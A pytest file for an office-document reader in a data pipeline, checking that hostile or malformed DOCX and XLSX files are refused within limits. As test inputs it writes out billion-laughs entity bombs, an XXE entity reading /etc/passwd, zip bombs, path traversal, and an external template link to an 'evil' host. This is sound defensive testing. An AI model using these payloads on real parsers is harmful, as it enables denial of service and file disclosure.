"""Files that mean harm, or are broken: a clear error within the limits, nothing opened, nothing fetched."""

from __future__ import annotations

import io
import resource
import zipfile
from typing import Any

import docx
import pytest

from documents_office.files import W, changed, codes, read, related, run, saved, sheet_xml, table, word, workbook
from welfare_etl.documents import SettingError, UnreadableDocument
from welfare_etl.documents.kinds import DOCX, XLSX
from welfare_etl.documents.office.limits import Limits
from welfare_etl.documents.office.reader import read_office

DOCUMENT, SHEET = "word/document.xml", "xl/worksheets/sheet1.xml"
SPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def letter() -> bytes:
    file = docx.Document()
    file.add_paragraph("本文")
    return saved(file)


def book() -> bytes:
    return workbook(lambda sheet: sheet.append(["本文"]))


def body(inner: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<w:document {W}><w:body>{inner}</w:body></w:document>'


LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 10}">' for n in range(9))
BILLION = f"<!DOCTYPE w:document [{LAUGHS}]>"
OUTSIDE = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
NESTED = "<w:tbl><w:tr><w:tc>" * 100 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 100
SHALLOWER = "<w:tbl><w:tr><w:tc>" * 30 + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 30


def merged(count: int) -> str:
    ranges = "".join(f'<mergeCell ref="A{row}:XFD{row}"/>' for row in range(1, count + 1))
    return f"<worksheet {SPACE}><sheetData/><mergeCells>{ranges}</mergeCells></worksheet>"


@pytest.mark.parametrize(
    ("name", "change", "code", "told"),
    [
        ("a.docx", {DOCUMENT: body("<w:p><w:r><w:t>&e8;</w:t></w:r></w:p>", BILLION)}, "damaged", "entities"),
        ("a.docx", {DOCUMENT: body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", OUTSIDE)}, "damaged", "entities"),
        ("a.docx", {DOCUMENT: body(NESTED)}, "limit_exceeded", "nested"),
        ("a.docx", {DOCUMENT: body(SHALLOWER)}, "limit_exceeded", "nested"),
        ("a.docx", {DOCUMENT: lambda _: body("<w:p/>" * 900_000)}, "limit_exceeded", "times its size"),
        ("a.docx", {DOCUMENT: body("<w:p>")}, "damaged", "word/document.xml"),
        ("a.docx", {DOCUMENT: body("<w:p/>")}, "no_text_layer", "no text"),
        ("a.xlsx", {SHEET: f'<!DOCTYPE worksheet [{LAUGHS}]><worksheet {SPACE}><sheetData><row><c t="str"><v>&e8;</v></c></row></sheetData></worksheet>'}, "damaged", "entities"),
        ("a.xlsx", {SHEET: f"<worksheet {SPACE}><sheetData/></worksheet>"}, "no_text_layer", "no text"),
        ("a.xlsx", {SHEET: f"<worksheet {SPACE}><sheetData><row>"}, "damaged", SHEET),
        ("a.xlsx", {SHEET: lambda _: merged(1_000_000)}, "limit_exceeded", "32 MiB"),
        ("a.xlsx", {SHEET: lambda _: merged(60_000)}, "limit_exceeded", "merged ranges"),
    ],
    ids=["billion laughs", "a file of the machine", "tables in tables", "fewer", "a bomb", "broken", "empty", "laughs in a sheet",
         "an empty sheet", "a broken sheet", "a million merged ranges", "too many merged ranges"],
)  # fmt: skip
def test_a_hostile_file_is_refused_with_what_it_is(name: str, change: dict[str, Any], code: str, told: str) -> None:
    data = changed(letter() if name.endswith("docx") else book(), change)
    before = resource.getrusage(resource.RUSAGE_SELF)
    with pytest.raises(UnreadableDocument) as caught:
        read(data, name)
    spent = resource.getrusage(resource.RUSAGE_SELF)
    assert caught.value.code == code, caught.value
    assert told in caught.value.found
    assert "root:" not in str(caught.value)
    assert spent.ru_utime - before.ru_utime < 20  # a bound, no measurement: without limits it would be hours


def test_one_merged_range_over_the_whole_sheet_costs_nothing() -> None:
    data = changed(
        book(),
        {
            SHEET: lambda xml: xml.replace(
                "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
            )
        },
    )
    assert table(read(data, "a.xlsx")) == [["本文"]]


def test_a_million_empty_rows_are_passed_over() -> None:
    rows = [
        '<row r="1"><c r="A1" t="str"><v>本文</v></c></row>',
        *(f'<row r="{n}" ht="15"/>' for n in range(2, 200_002)),
    ]
    document = read(changed(book(), {SHEET: sheet_xml(rows)}), "a.xlsx")
    assert table(document) == [["本文"]]


def test_cells_anywhere_on_the_sheet_are_no_matter() -> None:
    rows = [
        '<row r="1048576"><c r="XFD1048576" t="str"><v>隅</v></c></row>',
        '<row r="99999999999"><c r="ZZZZZ1" t="str"><v>外</v></c></row>',
    ]
    document = read(changed(book(), {SHEET: sheet_xml(rows)}), "a.xlsx")
    assert [text for row in table(document) for text in row] == ["隅", "外"]


def test_links_macros_and_embedded_objects_are_not_opened() -> None:
    link = '<Relationship Id="rId88" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.1/evil.dotm" TargetMode="External"/></Relationships>'
    data = changed(letter(), {
        "word/_rels/document.xml.rels": lambda rels: rels.replace("</Relationships>", link),
        "word/vbaProject.bin": "macro",
        "word/embeddings/oleObject1.bin": "object",
    })  # fmt: skip
    document = read(data, "a.docm")
    assert (table(document), codes(document)) == ([["本文"]], ["embedded"])


def test_a_relationship_that_leaves_the_file_leads_nowhere() -> None:
    data = changed(
        letter(),
        {"word/_rels/document.xml.rels": lambda rels: related(rels, "comments", "../../../../etc/passwd", "rId99")},
    )
    assert table(read(data, "a.docx")) == [["本文"]]


@pytest.mark.parametrize(
    ("data", "name", "code", "told"),
    [
        (b"", "a.docx", "empty_file", "nothing"),
        (b"PK\x03\x04 sheet", "a.xlsx", "damaged", "parsed"),
        (letter()[:2000], "a.docx", "damaged", "parsed"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "a.docx", "other_kind", "password"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "WordDocument".encode("utf-16-le"), "a.doc", "other_kind", ".doc"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.xls", "other_kind", ".xls"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.jtd", "other_kind", "Ichitaro"),
        (b"\x60\x0e\x82\x82", "a.xdw", "other_kind", "DocuWorks"),
        (b"{\\rtf1 x}", "a.rtf", "other_kind", "Rich Text"),
        (b"PK\x03\x04" + b"mimetypeapplication/vnd.oasis.opendocument.text", "a.odt", "other_kind", "OpenDocument"),
        (b"PK\x03\x04" + b"some/file", "a.zip", "other_kind", "archive"),
        (b"II*\x00", "scan.tif", "other_kind", "TIFF"),
        (b"?", "a.unknown", "other_kind", ""),
    ],
)  # fmt: skip
def test_what_is_not_read_is_told_with_what_to_do(data: bytes, name: str, code: str, told: str) -> None:
    if name == "a.unknown":
        assert read(b"text", name).rows  # of an ending that nobody knows, text is text
        return
    with pytest.raises(UnreadableDocument) as caught:
        read(data, name)
    assert (caught.value.code, told in caught.value.found) == (code, True), caught.value
    assert caught.value.action


@pytest.mark.parametrize(
    ("name", "data"), [("報告.pdf", letter()), ("report.txt", book()), ("report.docx", book()), ("x.xls", book())]
)
def test_what_the_bytes_say_outweighs_the_ending(name: str, data: bytes) -> None:
    assert table(read(data, name)) == [["本文"]]


def test_sizes_that_an_archive_tells_wrongly_are_not_believed() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(DOCUMENT, body("<w:p/>" * 3_000_000))
    data = bytearray(stream.getvalue())
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    with pytest.raises(UnreadableDocument) as caught:
        read(bytes(data), "a.docx")
    assert caught.value.code in ("damaged", "limit_exceeded")


@pytest.mark.parametrize(
    ("setting", "media_type", "data"),
    [
        ({"max_file_bytes": 100}, DOCX, letter()),
        ({"max_entries": 2}, DOCX, letter()),
        ({"max_part_bytes": 100}, DOCX, letter()),
        ({"max_inflated_bytes": 500}, XLSX, book()),
        ({"max_cells": 1}, XLSX, workbook(lambda sheet: sheet.append(["a", "b"]))),
    ],
)
def test_each_limit_holds_and_says_how_to_raise_it(setting: dict[str, int], media_type: str, data: bytes) -> None:
    with pytest.raises(UnreadableDocument) as caught:
        read_office(data, "a", media_type, Limits(**setting))
    assert caught.value.code == "limit_exceeded"
    assert "WELFARE_ETL_OFFICE_" + next(iter(setting)).upper() in caught.value.action


def test_limits_come_from_the_environment() -> None:
    assert Limits.from_environment({"WELFARE_ETL_OFFICE_MAX_FILE_BYTES": "2M"}).max_file_bytes == 2 * 1024 * 1024
    with pytest.raises(SettingError):
        Limits.from_environment({"WELFARE_ETL_OFFICE_MAX_PAGES": "2"})


def test_signs_that_xml_escapes_are_text() -> None:
    assert table(word(run("地域&amp;福祉 &lt;案&gt;"))) == [["地域&福祉 <案>"]]


@pytest.mark.parametrize(
    ("signature", "at", "value", "why"),
    [
        (b"PK\x01\x02", 6, b"\x63\x00", "an entry asks for version 9.9 of the format"),
        (b"PK\x01\x02", 10, b"\x5b\x00", "a method of compression that nobody knows"),
        (b"PK\x05\x06", 16, b"\xff\xff\xff\x7f", "the directory is said to begin behind the end"),
        (b"PK\x05\x06", 12, b"\xff\xff\xff\x7f", "the directory is said to be longer than the file"),
        (b"PK\x01\x02", 42, b"\xff\xff\xff\x7f", "an entry is said to stand behind the end"),
    ],
)
def test_an_archive_with_a_damaged_directory_is_refused(signature: bytes, at: int, value: bytes, why: str) -> None:
    data = bytearray(saved(docx.Document()))
    found = 0
    while (found := data.find(signature, found)) >= 0:
        data[found + at : found + at + len(value)] = value
        found += 4
    with pytest.raises(UnreadableDocument) as caught:
        read(bytes(data), "a.docx")
    assert caught.value.code == "damaged", why
